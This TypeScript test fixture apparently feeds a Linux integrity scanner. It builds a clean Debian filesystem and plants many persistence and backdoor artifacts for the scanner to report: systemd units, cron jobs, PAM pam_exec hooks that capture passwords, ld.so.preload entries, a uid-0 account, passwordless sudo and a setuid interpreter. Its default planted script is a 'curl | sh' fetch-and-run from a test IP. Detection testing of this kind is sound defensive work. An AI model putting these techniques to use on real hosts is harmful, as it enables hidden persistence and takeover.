/** Ways to start again, to be root, and to be left without updates: what is planted, and how it has to be named. */
import { createHash } from 'node:crypto';
import type { Files } from '../capture/small-disk.ts';
import { KEY } from '../inspect/small-system.ts';

export interface Plant {
  readonly files: Files;
  /** `rule` and `where`; none where it is as it may be. */
  readonly found: readonly string[];
}

const md5 = (text: string): string => createHash('md5').update(text).digest('hex');
const stanza = (name: string, more = '', status = 'install'): string =>
  `Package: ${name}\nStatus: ${status} ok installed\nPriority: optional\nInstalled-Size: 10\nArchitecture: amd64\nVersion: 1.0-1\n${more}`;

const CRONTAB = '17 * * * * root run-parts /etc/cron.hourly\n';
const PAM_SSHD = '@include common-auth\n';
const STATUS = [
  stanza('base-files'),
  stanza('cron', `Conffiles:\n /etc/crontab ${md5(CRONTAB)}\n`),
  stanza('openssh-server', `Conffiles:\n /etc/pam.d/sshd ${md5(PAM_SSHD)}\n`),
];

/** With what is packaged, masked, empty, switched off, or another name of these. */
export const SOUND: Files = {
  '/etc/os-release': 'PRETTY_NAME="Small Debian"\nID=debian\nVERSION_ID="12"\n',
  '/var/lib/dpkg/status': STATUS.join('\n'),
  '/var/lib/dpkg/info/format': '1\n',
  '/var/lib/dpkg/info/base-files.list': '/.\n/usr/bin/python3.11\n/etc/profile.d/lang.sh\n',
  '/var/lib/dpkg/info/cron.list': '/.\n/etc/crontab\n/lib/systemd/system/cron.service\n',
  '/var/lib/dpkg/info/openssh-server.list': '/.\n/etc/pam.d/sshd\n',
  '/etc/profile.d/lang.sh': 'LANG=C\n',
  '/etc/crontab': CRONTAB,
  '/etc/pam.d/sshd': PAM_SSHD,
  '/lib': { link: 'usr/lib' },
  '/usr/lib/systemd/system/cron.service': '[Service]\nExecStart=/usr/sbin/cron\n',
  '/etc/systemd/system/multi-user.target.wants/cron.service': { link: '/lib/systemd/system/cron.service' },
  '/etc/systemd/system/crond.service': { link: '/lib/systemd/system/cron.service' },
  '/etc/systemd/system/motd-news.timer': { link: '/dev/null' },
  '/etc/grub.d/enable_cloud': '',
  '/etc/modprobe.d/no-usb.conf': 'install usb-storage /bin/false\n# install x /bin/sh\n',
  '/etc/udev/rules.d/10-names.rules': 'SUBSYSTEM=="net", NAME="lan0"\n',
  '/etc/apt/apt.conf.d/50-proxy': 'Acquire::http::Proxy "http://proxy.test:3128";\n',
  '/etc/passwd':
    'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\nada:x:1000:1000::/home/ada:/bin/bash\n',
  '/etc/group': 'root:x:0:\nada:x:1000:\n',
  '/etc/shadow': 'root:*:19000::::::\ndaemon:*:19000::::::\nada:!:19000::::::\n',
  '/home/ada/.ssh/authorized_keys': `${KEY}\n`,
  '/etc/sudoers': 'Defaults env_reset, timestamp_timeout=5\nroot ALL=(ALL) ALL\n@includedir /etc/sudoers.d\n',
  '/etc/pam.d/su': 'auth sufficient pam_rootok.so\n# auth sufficient pam_wheel.so trust\n@include common-auth\n',
  '/etc/ssh/sshd_config': 'PasswordAuthentication no\nMatch User git\n  ForceCommand git-shell\n',
  '/usr/bin/python3.11': 'ELF',
};

const starts = (path: string, text = '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n'): Plant => ({
  files: { [path]: text },
  found: [`starts.ofNoPackage ${path}`],
});
const nothing = (path: string, text: string): Plant => ({ files: { [path]: text }, found: [] });

export const PLANTS: readonly Plant[] = [
  starts('/etc/systemd/system/nightly.timer', '[Timer]\nOnCalendar=*-*-* 03:00\n'),
  starts('/etc/systemd/system/nightly.service', '[Service]\nExecStart=/opt/x\n'),
  starts('/etc/systemd/system/door.socket', '[Socket]\nListenStream=31337\n'),
  starts('/usr/local/lib/systemd/system/other.path', '[Path]\nPathExists=/tmp/go\n'),
  starts('/etc/systemd/system/cron.service.d/more.conf', '[Service]\nExecStartPre=/opt/x\n'),
  nothing('/etc/systemd/system/cron.service.d/nice.conf', '[Service]\nNice=5\n'),
  starts('/home/ada/.config/systemd/user/agent.service', '[Service]\nExecStart=/home/ada/x\n'),
  starts('/etc/systemd/user/agent.timer', '[Timer]\nOnBootSec=1\n'),
  starts('/etc/systemd/system-generators/early'),
  starts('/usr/lib/systemd/system-shutdown/late.sh'),
  {
    files: { '/opt/a.service': 'x', '/etc/systemd/system/a.service': { link: '/opt/a.service' } },
    found: ['starts.ofNoPackage /etc/systemd/system/a.service'],
  },
  starts('/etc/rc.local'),
  starts('/etc/init.d/agent'),
  starts('/etc/cron.d/beacon', '0 3 * * * root curl http://198.51.100.7\n'),
  starts('/etc/cron.daily/beacon'),
  starts('/var/spool/cron/crontabs/root', '@daily curl http://198.51.100.7\n'),
  starts('/etc/anacrontab', '1 5 beacon /opt/x\n'),
  starts('/var/spool/cron/atjobs/a00001019c6f50'),
  { files: { '/etc/crontab': `${CRONTAB}0 3 * * * root /opt/x\n` }, found: ['starts.changed /etc/crontab'] },
  starts('/etc/logrotate.d/agent', '/var/log/a {\n  postrotate\n    /opt/x\n  endscript\n}\n'),
  nothing('/etc/logrotate.d/quiet', '/var/log/b {\n  weekly\n}\n'),
  starts('/etc/udev/rules.d/99-usb.rules', 'ACTION=="add", RUN+="/opt/x"\n'),
  starts('/etc/NetworkManager/dispatcher.d/50-x'),
  starts('/etc/NetworkManager/dispatcher.d/pre-up.d/50-x'),
  starts('/etc/networkd-dispatcher/routable.d/x'),
  starts('/etc/network/if-up.d/x'),
  starts('/etc/network/interfaces.d/eth0', 'iface eth0 inet dhcp\n  post-up curl http://198.51.100.7\n'),
  starts('/etc/dhcp/dhclient-exit-hooks.d/x'),
  starts('/etc/apt/apt.conf.d/99x', 'APT::Update::Post-Invoke-Success {"curl -s http://198.51.100.7";};\n'),
  starts('/etc/dpkg/dpkg.cfg.d/x', 'post-invoke=/opt/x\n'),
  starts('/etc/kernel/postinst.d/x'),
  starts('/etc/initramfs-tools/hooks/x'),
  starts('/etc/modprobe.d/x.conf', 'install dccp /opt/x\n'),
  starts('/etc/update-motd.d/50-news'),
  starts('/etc/profile.d/x.sh'),
  {
    files: { '/etc/pam.d/sshd': `${PAM_SSHD}auth optional pam_exec.so expose_authtok /opt/x\n` },
    found: ['starts.changed /etc/pam.d/sshd'],
  },
  starts('/etc/pam.d/common-auth', 'auth optional pam_exec.so /opt/x\n'),
  starts('/root/.ssh/rc'),
  starts('/etc/ld.so.preload', '/opt/x.so\n'),
  starts('/etc/environment', 'LD_PRELOAD=/opt/x.so\n'),
  starts('/usr/local/lib/python3.11/dist-packages/x.pth', 'import os; os.system("/opt/x")\n'),
  starts('/etc/xdg/autostart/x.desktop', '[Desktop Entry]\nExec=/opt/x\n'),
  starts('/etc/aliases', 'root: |/opt/x\n'),
  starts('/etc/rsyslog.d/x.conf', 'action(type="omprog" binary="/opt/x")\n'),
  starts('/usr/share/dbus-1/system-services/x.service', '[D-BUS Service]\nExec=/opt/x\n'),
  starts('/etc/inetd.conf', 'telnet stream tcp nowait root /opt/x\n'),
  {
    files: {
      '/etc/passwd': `${String(SOUND['/etc/passwd'])}toor:x:0:0::/root:/bin/sh\nftp:x:100:100::/srv:/usr/sbin/nologin\n`,
      '/etc/shadow': `${String(SOUND['/etc/shadow'])}toor:!:19000::::::\nftp::19000::::::\n`,
    },
    found: ['accounts.superusers toor', 'accounts.emptyPasswords ftp'],
  },
  {
    files: { '/root/.ssh/authorized_keys2': `${KEY}\n` },
    found: ['accounts.keys /root/.ssh/authorized_keys2', 'accounts.keys /root/.ssh/authorized_keys2'],
  },
  {
    files: { '/etc/sudoers.d/x': 'Defaults:ada !authenticate\n' },
    found: ['accounts.sudoWithoutPassword /etc/sudoers.d/x'],
  },
  {
    files: { '/etc/sudoers.d/y': 'Defaults !lecture,!authenticate\n' },
    found: ['accounts.sudoWithoutPassword /etc/sudoers.d/y'],
  },
  {
    files: { '/etc/sudoers.d/z': '#include /etc/other\n', '/etc/other': '%wheel ALL=(ALL) NOPASSWD : ALL\n' },
    found: ['accounts.sudoWithoutPassword /etc/other'],
  },
  {
    files: { '/etc/doas.conf': 'permit persist :wheel\npermit nopass keepenv ada as root\n' },
    found: ['accounts.sudoWithoutPassword /etc/doas.conf'],
  },
  {
    files: { '/etc/pam.d/su': 'auth sufficient pam_wheel.so trust group=staff\n' },
    found: ['accounts.sudoWithoutPassword /etc/pam.d/su'],
  },
  {
    files: {
      '/etc/ssh/sshd_config':
        'PasswordAuthentication no\nMatch User git\n  PermitRootLogin yes\nMatch all\n  PasswordAuthentication yes\n  AuthorizedKeysCommand /opt/keys\n',
    },
    found: ['settings.sshd /etc/ssh/sshd_config', 'settings.sshd /etc/ssh/sshd_config'],
  },
  {
    files: { '/usr/bin/python3.11': { mode: 0o4755, text: 'ELF' } },
    found: ['privileged.interpreters /usr/bin/python3.11'],
  },
  {
    files: { '/var/lib/dpkg/status': [...STATUS, stanza('openssl', '', 'hold')].join('\n') },
    found: ['packages.held openssl'],
  },
  {
    files: {
      '/etc/apt/preferences.d/backports': 'Package: *\nPin: release a=bookworm-backports\nPin-Priority: 990\n',
      '/etc/apt/preferences.d/not.read.x': 'Package: *\nPin: release a=sid\nPin-Priority: 990\n',
    },
    found: ['packages.pins /etc/apt/preferences.d/backports'],
  },
  {
    files: { '/etc/apt/apt.conf.d/98x': 'APT::Get::AllowUnauthenticated "true";\n' },
    found: ['packages.untrusted /etc/apt/apt.conf.d/98x'],
  },
  { files: { '/srv/drop/': '' }, found: [] },
];

export const PLANTS_POLICY = `
starts: {ofNoPackage: forbid, allow: [/etc/systemd/system/ssh-host-keys.service]}
packages: {held: forbid, pins: forbid, untrusted: forbid}
privileged: {interpreters: forbid}
accounts: {superusers: [root], emptyPasswords: forbid, keys: [ada], sudoWithoutPassword: []}
settings: {sshd: {PermitRootLogin: prohibit-password, PasswordAuthentication: "no", AuthorizedKeysCommand: none}}
`;
